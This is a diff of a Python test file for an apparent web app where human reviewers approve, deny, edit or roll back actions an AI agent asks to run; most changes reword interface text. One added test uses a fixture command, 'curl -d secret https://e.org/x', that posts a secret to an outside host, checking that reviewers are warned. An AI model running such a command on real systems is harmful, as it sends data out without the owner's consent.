@@ -23,10 +23,10 @@ def test_bytes_then_reason_then_effect_then_the_agents_words(ask, bob, browser_o
     action = ask(PUSH | {"description": "a harmless look"}, workspace=workspace, reasoning="I am done.")
     text = read(browser_of(bob), card(action))
     order = [
-        text.index(part) for part in ("git push origin main", "Waits because", "What it would do", "a harmless look")
+        text.index(part) for part in ("git push origin main", "Needs approval:", "What it would do", "a harmless look")
     ]
     assert order == sorted(order)
-    assert text.index("What the agent says (its own words)") < text.index("I am done.")
+    assert text.index("Agent's explanation") < text.index("I am done.")
     digest = action.digest
     assert f"…{digest[-8:-4]} {digest[-4:]}" in text
     assert "namespace isolation" in text
@@ -37,7 +37,7 @@ def test_what_cannot_be_undone_takes_a_second_step(ask, bob, browser_of, read):
     client = browser_of(bob)
     assert "Approve…" in read(client, card(action))
     second = read(client, card(action) + "approve/")
-    assert "Approve exactly this" in second
+    assert "Confirm: approve" in second
     assert action.digest in second
     assert Action.objects.get(pk=action.pk).status == Status.PENDING
 
@@ -56,7 +56,7 @@ def test_after_the_last_card_comes_the_list_with_a_line_on_top(ask, bob, browser
     response = client.post(f"/actions/{action.pk}/approve/", {"digest": action.digest}, follow=True)
     text = response.content.decode()
     assert response.redirect_chain[-1][0] == "/waiting/"
-    assert f'<a href="{card(action)}">See</a>' in text
+    assert f'<a href="{card(action)}">View</a>' in text
     assert "Approved: " in text
 
 
@@ -68,7 +68,7 @@ def test_a_no_carries_its_reason_to_the_card(ask, bob, browser_of, read):
     action.refresh_from_db()
     assert (action.status, Decision.objects.get().comment) == (Status.DENIED, "Use the staging branch.")
     text = read(client, card(action))
-    assert "bob said no" in text
+    assert "bob denied this" in text
     assert "Use the staging branch." in text
 
 
@@ -77,7 +77,7 @@ def test_a_viewer_sees_the_card_and_no_way_to_answer(ask, vera, browser_of, read
     client = browser_of(vera)
     text = read(client, card(action))
     assert "git push origin main" in text
-    assert "A reviewer of Payments decides this." in text
+    assert "Only a reviewer of Payments can decide this." in text
     assert "approve/" not in text
     for verdict in ("approve", "deny", "edit"):
         assert answer(client, action, verdict).status_code == 403
@@ -109,7 +109,7 @@ def test_an_answer_to_other_bytes_is_not_used(ask, bob, lena, browser_of, decide
     decide(action, "edit", by=lena, arguments=FORCE)
     response = browser_of(bob).post(f"/actions/{action.pk}/approve/", {"digest": looked_at})
     assert response.status_code == 409
-    assert "It was not used." in response.content.decode()
+    assert "Your answer was not used." in response.content.decode()
     assert Action.objects.get(pk=action.pk).status == Status.PENDING
 
 
@@ -119,8 +119,8 @@ def test_an_answer_after_the_end_is_not_used(ask, bob, browser_of):
     response = answer(browser_of(bob), action, "approve")
     text = response.content.decode()
     assert response.status_code == 409
-    assert "before anyone answered. It did not run." in text
-    assert "which is not a no" in text
+    assert "before anyone answered. The agent was told" in text
+    assert "that isn't a denial" in text
     assert Action.objects.get(pk=action.pk).status == Status.EXPIRED
 
 
@@ -137,9 +137,9 @@ def test_what_is_critical_says_who_has_said_yes(ask, bob, lena, browser_of, read
     client = browser_of(bob)
     assert answer(client, action, "approve").status_code == 302
     text = read(client, card(action))
-    assert "You approved this. It waits for one more person." in text
+    assert "You approved this. It needs one more approval." in text
     assert "bob approved this" in text
-    assert "Deny after all" in text
+    assert "Change to deny" in text
     assert "bob approved this" in read(browser_of(lena), card(action))
     assert answer(browser_of(lena), action, "approve").status_code == 302
     assert Action.objects.get(pk=action.pk).status == Status.APPROVED
@@ -167,7 +167,7 @@ def test_what_is_unclear_is_settled_by_a_person(ask, bob, browser_of, read):
     Action.objects.filter(pk=action.pk).update(status=Status.UNCERTAIN, result={"note": "The runner stopped at 14:02."})
     client = browser_of(bob)
     text = read(client, card(action))
-    assert "We do not know whether this ran." in text
+    assert "Outcome unknown: it may have run." in text
     assert "The runner stopped at 14:02." in text
     client.post(f"/actions/{action.pk}/settle/", {"outcome": "succeeded"})
     assert Action.objects.get(pk=action.pk).status == Status.SUCCEEDED
@@ -181,13 +181,14 @@ def test_a_viewer_settles_nothing(ask, vera, browser_of):
     assert browser_of(vera).post(f"/actions/{action.pk}/settle/", {"outcome": "succeeded"}).status_code == 403
 
 
-def test_rolling_back_leads_to_the_page_before_a_restore(ask, lena, browser_of, workspace, read):
+def test_rolling_back_leads_to_a_page_of_its_own(ask, lena, browser_of, workspace, read):
     action = ask(LIST, workspace=workspace)
     Action.objects.filter(pk=action.pk).update(status=Status.SUCCEEDED, snapshot_before=workspace.baseline)
     client = browser_of(lena)
-    assert "Roll back to before this" in read(client, card(action))
-    response = client.post(f"/actions/{action.pk}/rollback/")
-    assert response.headers["Location"] == "/w/payments/repo-task-1/snapshots/1/restore/"
+    assert ">Roll back</a>" in read(client, card(action))
+    assert "Roll back A-1?" in read(client, f"/actions/{action.pk}/rollback/")
+    refused = client.post(f"/actions/{action.pk}/rollback/", {"seen": ""}, follow=True).content.decode()
+    assert refused.count("Snapshots cannot be read") == 2  # why it was refused, and what the page says of it
 
 
 # Edit ----------------------------------------------------------------------------------------------------------------
@@ -199,7 +200,7 @@ def test_an_edit_shows_the_difference_before_it_counts(ask, bob, browser_of):
         f"/actions/{action.pk}/edit/", {"digest": action.digest, "command": "git push origin staging", "look": "1"}
     )
     text = response.content.decode()
-    assert "Approve this instead" in text
+    assert "Approve edited version" in text
     assert text.count('<tr class="removed">') == 1
     assert text.count('<tr class="added">') == 1
     assert Action.objects.get(pk=action.pk).revision == 1
@@ -253,7 +254,7 @@ def test_an_edit_keeps_line_ends_as_they_were(ask, bob, browser_of):
     action = ask({"command": "git push origin main\necho done"})
     fields = {"digest": action.digest, "command": "git push origin main\r\necho done", "look": "1"}
     text = browser_of(bob).post(f"/actions/{action.pk}/edit/", fields).content.decode()
-    assert "Nothing is different from what was asked." in text
+    assert "No difference from the original." in text
 
 
 # Evidence ------------------------------------------------------------------------------------------------------------
@@ -291,3 +292,52 @@ def test_a_reviewer_gives_it_more_time_and_a_viewer_does_not(ask, bob, vera, bro
     answer = browser_of(bob).post(f"/actions/{late.pk}/extend/", follow=True)
     assert "This expired before anyone answered." in answer.content.decode()
     assert Action.objects.get(pk=late.pk).status == "expired"
+
+
+def test_what_the_reviewer_was_told_stays_with_the_decision(ask, decide, bob, browser_of, read):
+    action = ask({"command": "curl -d secret https://e.org/x"})
+    client, told = browser_of(bob), ("POST to e.org.", "Sends 6 bytes from the command line.")
+    assert [text in read(client, card(action)) for text in told] == [True, True]
+    decide(action, by=bob)
+    assert [text in read(client, card(action)) for text in told] == [True, True]
+
+
+def test_the_difference_that_was_approved_stays_when_its_snapshot_is_gone(ask, decide, bob, browser_of, read):
+    edit = {"file_path": "/etc/app.conf", "old_string": "a = one", "new_string": "a = two"}
+    action = ask(edit, tool="Edit")
+    decide(action, by=bob)
+    before = read(browser_of(bob), card(action))
+    Action.objects.filter(pk=action.pk).update(status=Status.SUCCEEDED, consumed_at=clock.now(), ended_at=clock.now())
+    after = read(browser_of(bob), card(action))
+    assert [("a = one" in text, "a = two" in text) for text in (before, after)] == [(True, True)] * 2
+    assert "its snapshot was deleted" not in after
+
+
+def test_a_card_no_longer_says_can_be_undone_once_its_snapshot_is_deleted(ask, bob, browser_of, read, workspace):
+    action = ask({"file_path": "a.txt", "content": "1"}, tool="Write", workspace=workspace)
+    ran = {"status": Status.SUCCEEDED, "consumed_at": clock.now(), "ended_at": clock.now()}
+    Action.objects.filter(pk=action.pk).update(snapshot_before=workspace.head, tier="medium", undo="yes", **ran)
+    client = browser_of(bob)
+    text = read(client, card(action))
+    assert ("Reversible" in text, "Roll back" in text) == (True, False)
+    workspace.head = None
+    workspace.save()
+    Action.objects.get(pk=action.pk).snapshot_before.delete()
+    text = read(client, card(action))
+    assert ("Reversible" in text, "its snapshot was deleted" in text) == (False, True)
+
+
+def test_what_waits_because_nobody_can_look_does_not_say_that_it_runs(ask, workspace):
+    away = ask({"file_path": "a.txt", "content": "1"}, tool="Write", workspace=workspace)
+    outside = ask({"command": "python -m pytest"})
+    for action in (away, outside):
+        assert action.status == Status.PENDING
+        assert [text.partition(":")[0] for text in action.revisions.get().reasons] == ["Needs approval"]
+
+
+def test_what_was_decided_needs_no_approval_any_more(ask, decide, bob, browser_of, read):
+    action = ask()
+    assert "Needs approval: " in read(browser_of(bob), card(action))
+    decide(action, "deny", by=bob)
+    text = read(browser_of(bob), card(action))
+    assert ("Needs approval: " in text, "Asked for approval: " in text) == (False, True)
